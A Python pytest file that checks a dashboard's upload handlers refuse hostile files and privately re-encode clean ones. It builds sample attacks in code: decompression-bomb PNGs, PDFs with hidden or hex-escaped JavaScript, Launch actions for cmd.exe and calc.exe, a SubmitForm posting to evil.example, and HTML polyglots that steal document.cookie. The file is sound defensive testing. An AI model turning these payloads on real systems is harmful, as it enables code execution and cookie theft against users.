"""Hostile uploads, refused by every feature that takes a file (issue #11).

Each attack file is built here (no binary fixtures) and sent through the
real service entry point of each feature: an outreach upload
(``catalog.publish``), a feedback attachment (``feedback.raise_item``) and a
plan task photo (``tasks.update_task``), on the real SQLite store. A refusal
must carry the expected message key, and nothing may be stored: no row, no
file. Accepted files are stored re-encoded (images), with mode 0600 in
folders of mode 0700.
"""

from __future__ import annotations

import io
import stat
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageFile
from pypdf import PdfReader, PdfWriter
from sqlalchemy import func, select

from dashboard import feedback as fb
from dashboard.auth import Principal, Role
from dashboard.core import files
from dashboard.i18n import catalog, placeholders
from dashboard.outreach import catalog as outreach
from dashboard.outreach.storage import LocalFileStore
from dashboard.plans import EvidenceError
from dashboard.plans.photos import resolve
from dashboard.plans.tasks import update_task
from dashboard.store.models.feedback import FeedbackItem
from dashboard.store.models.plans import PlanTask
from tests.support.outreach import PROVINCE, counts, meta
from tests.support.plans_helpers import COMMUNE as PLAN_LEADER
from tests.support.plans_helpers import DONG_CHAU, make_setup

# The 6,500² case sits between the limit and Pillow's hard stop: Pillow warns
# while opening it, then the check refuses it.
pytestmark = pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")


@pytest.fixture
def database_url(tmp_path) -> str:
    """These tests run on SQLite only (the file checks do not touch SQL)."""
    return f"sqlite:///{tmp_path / 'store.db'}"


# --------------------------------------------------------------------------- #
# attack builders


def _chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body)
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares *width* × *height* RGB pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 4096, 9))
        + _chunk(b"IEND", b"")
    )


def png(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A 300×200 JPEG with GPS, camera make and orientation 6 (turn 90°)."""
    exif = Image.Exif()
    exif[0x010F] = "SpyPhone"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x8825] = {1: "N", 2: (21.0, 1.0, 2.0), 3: "E", 4: (105.0, 51.0, 3.0)}
    out = io.BytesIO()
    Image.new("RGB", (300, 200), (200, 30, 30)).save(out, "JPEG", exif=exif.tobytes())
    data = out.getvalue()
    assert b"SpyPhone" in data
    return data


def pdf_from(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF with these objects (1 = catalog) and a classic xref table."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % xref


def simple_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes):
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] "
            + page_extra
            + b" >>",
            *more,
        ]
    )


def pdf_js_in_object_stream() -> bytes:
    """The JavaScript action sits in a Flate-compressed object stream, so
    no byte of the file spells JavaScript (a grep sees nothing)."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
    header = b"4 0 "
    objstm = zlib.compress(header + hidden)
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    offsets = {}
    for number, body in enumerate(plain, 1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % (len(header), len(objstm))
        + objstm
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    rows += [b"\x01" + struct.pack(">IH", offsets[n], 0) for n in (1, 2, 3)]
    rows += [b"\x02" + struct.pack(">IH", 5, 0)]  # object 4: in stream 5, index 0
    rows += [b"\x01" + struct.pack(">IH", offsets[n], 0) for n in (5, 6)]
    xref = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 4 2] "
        b"/Filter /FlateDecode /Length %d >>\nstream\n"
        % len(xref)
        + xref
        + b"\nendstream\nendobj\n"
    )
    data = out + b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    assert b"JavaScript" not in data and b"/JS" not in data
    return data


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def clean_pdf() -> bytes:
    """A plain one-page PDF with a link (URI actions are fine) and an
    /OpenAction that is only a destination."""
    return simple_pdf(
        b"/OpenAction [3 0 R /Fit]",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] "
        b"/A << /S /URI /URI (https://nchmf.gov.vn) >> >>",
    )


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def mp4(*extra: bytes) -> bytes:
    """ftyp, moov (a movie header) and an mdat of 8 kB, then *extra*."""
    ftyp = box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2avc1mp41")
    moov = box(b"moov", box(b"mvhd", bytes(100)))
    mdat = box(b"mdat", bytes(range(256)) * 32)
    return ftyp + moov + mdat + b"".join(extra)


HTML = b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"

# (case, builder, family) → the key each feature answers with. Plan photos
# take images only, feedback images and PDFs, outreach all three.
ATTACKS = {
    "png declaring 13000x13000": (
        lambda: png_declaring(13_000, 13_000),
        "image",
        "file.image_too_large",
    ),
    "png declaring 100000x100000": (
        lambda: png_declaring(100_000, 100_000),
        "image",
        "file.image_too_large",
    ),
    "png declaring 6500x6500 (between the limit and Pillow's hard stop)": (
        lambda: png_declaring(6_500, 6_500),
        "image",
        "file.image_too_large",
    ),
    "pdf with /OpenAction JavaScript": (
        lambda: simple_pdf(
            b"/OpenAction 4 0 R",
            b"",
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        "pdf",
        "file.pdf_javascript",
    ),
    "pdf with /Java#53cript and /J#53 (hex-escaped names)": (
        lambda: simple_pdf(
            b"/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"
        ),
        "pdf",
        "file.pdf_javascript",
    ),
    "pdf with a /Names /JavaScript tree": (
        lambda: simple_pdf(
            b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>",
            b"",
            b"<< /S /JavaScript /JS (this.print\\(\\)) >>",
        ),
        "pdf",
        "file.pdf_javascript",
    ),
    "pdf with JavaScript in a compressed object stream": (
        pdf_js_in_object_stream,
        "pdf",
        "file.pdf_javascript",
    ),
    "pdf with /Laun#63h (hex-escaped launch action)": (
        lambda: simple_pdf(b"/OpenAction << /S /Laun#63h /F (cmd.exe) >>"),
        "pdf",
        "file.pdf_launch",
    ),
    "pdf with a launch action whose type is given by reference": (
        lambda: simple_pdf(
            b"/OpenAction << /S 4 0 R /F (calc.exe) >>", b"", b"/Launch"
        ),
        "pdf",
        "file.pdf_launch",
    ),
    "pdf with a page /AA launch action": (
        lambda: simple_pdf(b"", b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
        "pdf",
        "file.pdf_launch",
    ),
    "pdf with an embedded file": (pdf_with_attachment, "pdf", "file.pdf_embedded_file"),
    "pdf with an AcroForm": (
        lambda: simple_pdf(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) "
            b"/Rect [0 0 100 20] /P 3 0 R >>",
        ),
        "pdf",
        "file.pdf_form",
    ),
    "pdf with a link annotation that submits a form": (
        lambda: simple_pdf(
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] "
            b"/A << /S /SubmitForm /F (https://evil.example/x) >> >>",
        ),
        "pdf",
        "file.pdf_action",
    ),
    "pdf with a remote go-to": (
        lambda: simple_pdf(b"/OpenAction << /S /GoToR /F (share.pdf) /D [0 /Fit] >>"),
        "pdf",
        "file.pdf_action",
    ),
    "pdf with rich media": (
        lambda: simple_pdf(
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 20] >>",
        ),
        "pdf",
        "file.pdf_action",
    ),
    "encrypted pdf": (pdf_encrypted, "pdf", "file.encrypted_pdf"),
    "unparseable pdf": (
        lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n" + bytes(300),
        "pdf",
        "file.corrupt_pdf",
    ),
    "pdf with html after %%EOF": (
        lambda: clean_pdf() + b" " * files.HEAD_BYTES + HTML,
        "pdf",
        "file.polyglot",
    ),
    "mp4 with html appended": (lambda: mp4(HTML), "video", "file.polyglot"),
    "mp4 with html in a free box": (
        lambda: mp4(box(b"free", HTML)),
        "video",
        "file.polyglot",
    ),
    "mp4 with garbage after the last box": (
        lambda: mp4(b"\xff" * 40),
        "video",
        "file.corrupt_media",
    ),
}

OUTREACH_KIND = {
    "image": "infographic_image",
    "pdf": "infographic_pdf",
    "video": "video_file",
}
ACCEPTS = {"outreach": {"image", "pdf", "video"}, "feedback": {"image", "pdf"}}
ACCEPTS["plans"] = {"image"}


def expected_key(feature: str, family: str, key: str) -> str:
    return key if family in ACCEPTS[feature] else "file.wrong_type"


# --------------------------------------------------------------------------- #
# the three features' entry points


FEEDBACK_LEADER = Principal(
    "dc-fb", Role.COMMUNE, "UBND xã Đồng Châu", commune_code="13003"
)


def _feedback_leader() -> Principal:
    return FEEDBACK_LEADER


def upload_outreach(ctx, data: bytes, family: str):
    return outreach.publish(ctx, PROVINCE, meta("Tệp thử", OUTREACH_KIND[family]), data)


def upload_feedback(ctx, data: bytes, name: str = "evidence.bin"):
    with ctx.transaction() as s:
        return fb.raise_item(
            s,
            _feedback_leader(),
            commune_code="13003",
            category="equipment",
            urgency="urgent",
            title="Ảnh hiện trường",
            text="Đê sạt lở đoạn qua thôn 3.",
            attachment=fb.Attachment(name, data),
            data_dir=ctx.settings.data_dir,
        )


def photo_task(ctx) -> PlanTask:
    setup = make_setup(ctx, codes=(DONG_CHAU,))
    return setup.task(ctx, DONG_CHAU, "photo")


def upload_photo(ctx, task: PlanTask, data: bytes):
    with ctx.transaction() as s:
        return update_task(
            s,
            PLAN_LEADER,
            task.id,
            task.version,
            status="done",
            photo=data,
            data_dir=ctx.settings.data_dir,
        )


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def check_refusal(exc: BaseException, key: str) -> None:
    assert getattr(exc, "key", None) == key, (type(exc), exc)
    assert set(exc.params) >= set(files.KEYS[key])  # type: ignore[attr-defined]
    assert str(exc)  # an English fallback


# --------------------------------------------------------------------------- #
# attacks, through each feature


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_outreach_upload_refuses(ctx, case):
    build, family, key = ATTACKS[case]
    with pytest.raises(files.FileRefused) as refused:
        upload_outreach(ctx, build(), family)
    check_refusal(refused.value, expected_key("outreach", family, key))
    assert counts(ctx) == (0, 0)
    assert LocalFileStore(ctx.settings.data_dir).files() == []


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_feedback_attachment_refuses(ctx, case):
    build, family, key = ATTACKS[case]
    with pytest.raises(fb.FeedbackError) as refused:
        upload_feedback(ctx, build())
    assert refused.value.field == "attachment"
    check_refusal(refused.value, expected_key("feedback", family, key))
    with ctx.sessions() as s:
        assert s.scalar(select(func.count()).select_from(FeedbackItem)) == 0
    assert files_under(ctx.settings.data_dir / fb.ATTACHMENT_DIR) == []
    assert files_under(ctx.settings.data_dir / fb.THUMB_DIR) == []


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_plan_photo_refuses(ctx, case):
    build, family, key = ATTACKS[case]
    task = photo_task(ctx)
    with pytest.raises(EvidenceError) as refused:
        upload_photo(ctx, task, build())
    check_refusal(refused.value, expected_key("plans", family, key))
    with ctx.sessions() as s:
        row = s.get(PlanTask, task.id)
        assert (row.status, row.evidence_photo, row.version) == (
            task.status,
            task.evidence_photo,
            task.version,
        )
    assert files_under(ctx.settings.data_dir / "plan_photos") == []


# --------------------------------------------------------------------------- #
# clean files are accepted, re-encoded, private


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def assert_private(data_dir: Path, folder: str) -> list[Path]:
    stored = files_under(data_dir / folder)
    assert stored
    for path in stored:
        assert _mode(path) == 0o600, path
        for parent in path.relative_to(data_dir).parents:
            if parent != Path("."):
                assert _mode(data_dir / parent) == 0o700, parent
    return stored


def assert_no_gps(data: bytes, size=(200, 300)) -> None:
    assert b"SpyPhone" not in data
    image = Image.open(io.BytesIO(data))
    assert "exif" not in image.info
    assert dict(image.getexif()) == {}
    assert image.size == size  # orientation applied


@pytest.mark.parametrize(
    ("build", "family"), [(png, "image"), (clean_pdf, "pdf"), (mp4, "video")]
)
def test_outreach_accepts_clean_files_privately(ctx, build, family):
    row = upload_outreach(ctx, build(), family)
    assert row.file_path
    assert counts(ctx) == (1, 1)
    assert_private(ctx.settings.data_dir, "outreach")


def test_outreach_strips_gps(ctx):
    row = upload_outreach(ctx, jpeg_with_gps(), "image")
    assert_no_gps(LocalFileStore(ctx.settings.data_dir).get(row.file_path))


@pytest.mark.parametrize(
    ("build", "mime"), [(png, "image/png"), (clean_pdf, "application/pdf")]
)
def test_feedback_accepts_clean_files_privately(ctx, build, mime):
    item = upload_feedback(ctx, build(), "scan")
    assert item.attachment_mime == mime
    stored = assert_private(ctx.settings.data_dir, fb.ATTACHMENT_DIR)
    assert len(stored) == 1
    with ctx.sessions() as s:
        thumb = fb.attachment_thumbnail(
            s, _feedback_leader(), item.id, ctx.settings.data_dir
        )
    if mime.startswith("image/"):
        assert_private(ctx.settings.data_dir, fb.THUMB_DIR)
        assert Image.open(io.BytesIO(thumb)).format == "JPEG"
    else:
        assert thumb is None


def test_feedback_strips_gps_and_serves_a_thumbnail(ctx):
    item = upload_feedback(ctx, jpeg_with_gps(), "ảnh.jpg")
    with ctx.sessions() as s:
        _, mime, data = fb.attachment_file(
            s, _feedback_leader(), item.id, ctx.settings.data_dir
        )
        thumb = fb.attachment_thumbnail(
            s, _feedback_leader(), item.id, ctx.settings.data_dir
        )
    assert mime == "image/jpeg" and item.attachment_size == len(data)
    assert_no_gps(data)
    assert thumb is not None
    assert_no_gps(thumb)


def test_feedback_downscales_big_images(ctx):
    item = upload_feedback(ctx, png((3000, 1000)), "wide.png")
    with ctx.sessions() as s:
        _, _, data = fb.attachment_file(
            s, _feedback_leader(), item.id, ctx.settings.data_dir
        )
        thumb = fb.attachment_thumbnail(
            s, _feedback_leader(), item.id, ctx.settings.data_dir
        )
    assert Image.open(io.BytesIO(data)).size == (fb.ATTACHMENT_MAX_EDGE, 683)
    assert max(Image.open(io.BytesIO(thumb)).size) == fb.THUMB_EDGE


def test_plan_photo_strips_gps_privately(ctx):
    task = photo_task(ctx)
    done = upload_photo(ctx, task, jpeg_with_gps())
    path = resolve(ctx.settings.data_dir, done.evidence_photo)
    assert path is not None
    assert_no_gps(path.read_bytes())
    assert len(assert_private(ctx.settings.data_dir, "plan_photos")) == 2


# --------------------------------------------------------------------------- #
# the shared module on its own


def test_every_key_has_both_texts_with_matching_placeholders():
    vi, en = catalog("vi"), catalog("en")
    for key, params in files.KEYS.items():
        assert key in vi and key in en, key
        assert placeholders(vi[key]) == placeholders(en[key]), key
        assert placeholders(en[key]) <= set(params), key


def test_pillow_limit_is_set_low():
    assert Image.MAX_IMAGE_PIXELS == files.MAX_PIXELS == 40_000_000


@pytest.mark.parametrize("side", [6_500, 13_000, 100_000])
def test_the_bomb_is_refused_before_decoding(monkeypatch, side):
    def no_decoding(self):
        raise AssertionError("pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    with pytest.raises(files.FileRefused) as refused:
        files.load_image(png_declaring(side, side))
    assert refused.value.key == "file.image_too_large"
    assert refused.value.params["pixels"] == side * side
    assert refused.value.params["limit"] == "40"


def test_object_stream_js_is_found_through_the_parsed_graph():
    data = pdf_js_in_object_stream()
    assert PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == (
        "/JavaScript"
    )
    with pytest.raises(files.FileRefused) as refused:
        files.check_pdf(data)
    assert refused.value.key == "file.pdf_javascript"


@pytest.mark.parametrize(
    "case",
    sorted(c for c in ATTACKS if ATTACKS[c][1] == "pdf" and "pdf_" in ATTACKS[c][2]),
)
def test_the_parsed_object_graph_alone_finds_every_active_pdf(monkeypatch, case):
    build, _, key = ATTACKS[case]
    monkeypatch.setattr(files, "_raw_scan", lambda *args: None)
    with pytest.raises(files.FileRefused) as refused:
        files.check_pdf(build())
    assert refused.value.key == key


def test_raw_names_escaped_letter_by_letter_are_found():
    # An object that no cross-reference table lists is still scanned.
    data = clean_pdf() + b"\n9 0 obj << /S /#4aava#53crip#74 /JS (x) >> endobj\n"
    with pytest.raises(files.FileRefused) as refused:
        files.check_pdf(data)
    assert refused.value.key == "file.pdf_javascript"


def test_a_clean_pdf_passes():
    assert len(files.check_pdf(clean_pdf()).pages) == 1


def ebml(ident: int, body: bytes) -> bytes:
    size = len(body)
    assert size < 2**56
    return (
        ident.to_bytes((ident.bit_length() + 7) // 8, "big")
        + ((1 << 56) | size).to_bytes(8, "big")
        + body
    )


def webm(*extra: bytes) -> bytes:
    header = ebml(0x1A45DFA3, ebml(0x4286, b"\x01") + ebml(0x4282, b"webm"))
    segment = ebml(0x18538067, ebml(0x1549A966, ebml(0x2AD7B1, b"\x0f\x42\x40")))
    return header + segment + b"".join(extra)


def mp3(*extra: bytes) -> bytes:
    frame = b"\xff\xfb\x90\x00" + bytes(413)  # MPEG-1 layer III, 128 kbit/s
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * 4 + b"".join(extra)


def ogg(*extra: bytes) -> bytes:
    page = b"OggS\x00\x02" + bytes(20) + b"\x01\x05" + b"hello"
    return page * 3 + b"".join(extra)


def wav(*extra: bytes) -> bytes:
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    body = b"WAVE" + box_le(b"fmt ", fmt) + box_le(b"data", bytes(800))
    return b"RIFF" + struct.pack("<I", len(body)) + body + b"".join(extra)


def box_le(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body


@pytest.mark.parametrize(
    ("build", "fmt", "mime"),
    [
        (mp4, "MP4", "video/mp4"),
        (webm, "WEBM", "video/webm"),
        (mp3, "MP3", "audio/mpeg"),
        (ogg, "OGG", "audio/ogg"),
        (wav, "WAV", "audio/wav"),
    ],
)
def test_media_containers(build, fmt, mime):
    assert files.sniff(build())[1] == fmt
    assert files.check_media(build(), fmt)[0] == mime
    with pytest.raises(files.FileRefused) as refused:
        files.check_media(build(HTML), fmt)
    assert refused.value.key == "file.polyglot"
    assert refused.value.params["marker"] in ("<html", "<body", "<script")


@pytest.mark.parametrize(
    ("data", "fmt"),
    [
        (b"ID3\x03\x00\x00\x00\x00\x00\x00", "MP3"),  # a tag, no audio
        (b"\xff\xfb\x90\x00" + bytes(100), "MP3"),  # a frame cut short
        (ogg()[:-2], "OGG"),
        (wav()[:-10], "WAV"),
        (webm()[:-2], "WEBM"),
        (mp4()[:-1], "MP4"),
    ],
)
def test_truncated_media_is_refused(data, fmt):
    with pytest.raises(files.FileRefused) as refused:
        files.check_media(data, fmt)
    assert refused.value.key == "file.corrupt_media"


def test_a_video_without_ftyp_first_is_refused():
    data = mp4()
    moved = data[32:] + data[:32]  # moov first: not the box walk we accept
    with pytest.raises(files.FileRefused) as refused:
        files.check_media(box(b"free", b"") + moved, "MP4")
    assert refused.value.key == "file.corrupt_media"


def test_write_private_is_0600_and_exclusive(tmp_path):
    folder = files.private_dir(tmp_path, "a", "b")
    files.write_private(folder / "x", b"1")
    assert _mode(folder / "x") == 0o600
    assert _mode(tmp_path / "a") == _mode(folder) == 0o700
    with pytest.raises(FileExistsError):
        files.write_private(folder / "x", b"2")
    assert (folder / "x").read_bytes() == b"1"
